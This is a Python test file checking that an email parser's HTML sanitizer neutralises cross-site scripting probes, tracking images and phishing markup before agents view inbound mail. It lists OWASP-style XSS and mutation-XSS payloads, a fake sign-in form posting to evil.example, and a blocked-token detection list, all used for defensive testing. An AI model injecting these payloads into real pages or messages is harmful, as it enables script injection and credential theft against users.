"""Inbound HTML is safe to show agents: allow-listed markup only, no script, no remote loads until asked."""

from __future__ import annotations

import pytest

from centrala.mail.parse import parse_email, rewrite_cid_urls, sanitize_html

# Classic probes (OWASP XSS filter evasion, mutation XSS) and mail-specific tricks.
PROBES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)><circle/></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<body onload=alert(1)>hi</body>",
    '<div style="background:url(javascript:alert(1))">a</div>',
    '<div style="background-image:url(https://tracker.example/bg.png)">a</div>',
    '<div style="width: expression(alert(1))">a</div>',
    '<div style="font-family: \\65xpression(alert(1))">a</div>',
    '<div style="position:fixed;top:0;left:0;z-index:9999">fake sign-in overlay</div>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!-- <script>alert(1)</script> -->",
    '<p onclick="steal()" id="login" class="btn">x</p>',
    '<table background="https://tracker.example/bg.png"><tr><td>c</td></tr></table>',
    '<img srcset="https://tracker.example/a.png 1x" src="https://tracker.example/b.png">',
]
FORBIDDEN = [
    "<script", "onerror", "onload", "onclick", "javascript:", "vbscript:", "data:", "<iframe", "<form",
    "<input", "<button", "<meta", "<svg", "<object", "<embed", "<base", "<link", "<style", "position",
    "expression", "url(", "display", "background=", "srcset", ' src="http', " id=", " class=",
]


@pytest.mark.parametrize("probe", PROBES)
def test_xss_probe_is_neutralised(probe):
    cleaned = sanitize_html(probe).lower()
    assert not [token for token in FORBIDDEN if token in cleaned], cleaned


def test_remote_image_is_blocked_but_recoverable():
    cleaned = sanitize_html('<img src="https://t.example/p.gif?u=1&amp;v=2" alt="a>b" width="1">')
    assert cleaned == '<img data-blocked-src="https://t.example/p.gif?u=1&amp;v=2" alt="a&gt;b" width="1">'


def test_inline_cid_image_is_kept_for_rewriting():
    html = '<img src="cid:logo@acme.cz" alt="ACME">'
    assert sanitize_html(html) == html


def test_links_keep_safe_schemes_and_get_rel():
    cleaned = sanitize_html(
        '<a href="https://acme.cz/faktura" target="_blank" rel="opener">f</a>'
        '<a href="mailto:jana@example.cz">m</a><a href="/relative">r</a>'
    )
    assert cleaned == (
        '<a href="https://acme.cz/faktura" rel="noopener noreferrer nofollow">f</a>'
        '<a href="mailto:jana@example.cz" rel="noopener noreferrer nofollow">m</a>'
        '<a rel="noopener noreferrer nofollow">r</a>'
    )


def test_typography_styles_survive():
    cleaned = sanitize_html('<p style="color: red; font-weight:bold; margin:0">x</p><font color=red>y</font>')
    assert cleaned == '<p style="color:red;font-weight:bold;margin:0">x</p><font color="red">y</font>'


def test_cid_urls_are_rewritten_from_a_mapping_or_a_function():
    html = '<img src="cid:logo@acme.cz"><img src="cid:unknown@acme.cz"><img src="cid:a%40b">'
    mapping = {"logo@acme.cz": "/attachments/1?x=1&y=2", "a@b": "/attachments/2"}
    assert rewrite_cid_urls(html, mapping) == (
        '<img src="/attachments/1?x=1&amp;y=2"><img src="cid:unknown@acme.cz"><img src="/attachments/2">'
    )
    assert rewrite_cid_urls(html, lambda cid: f"/c/{cid}") == (
        '<img src="/c/logo@acme.cz"><img src="/c/unknown@acme.cz"><img src="/c/a@b">'
    )


def _html_mail(html: str) -> bytes:
    return (
        "From: a@example.org\r\nTo: support@localhost\r\nSubject: x\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + html
    ).encode()


def test_html_only_mail_is_sanitised_and_has_derived_text():
    parsed = parse_email(_html_mail(
        '<html><head><title>T</title><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>'
        '<body><p>Dobrý den,</p><p>viz <a href="https://acme.cz">odkaz</a>.</p>'
        '<img src="https://tracker.example/p.gif"><script>alert(1)</script></body></html>'
    ))
    assert "<script" not in parsed.html and "refresh" not in parsed.html
    assert 'data-blocked-src="https://tracker.example/p.gif"' in parsed.html
    assert parsed.text == "Dobrý den,\n\nviz odkaz <https://acme.cz>."
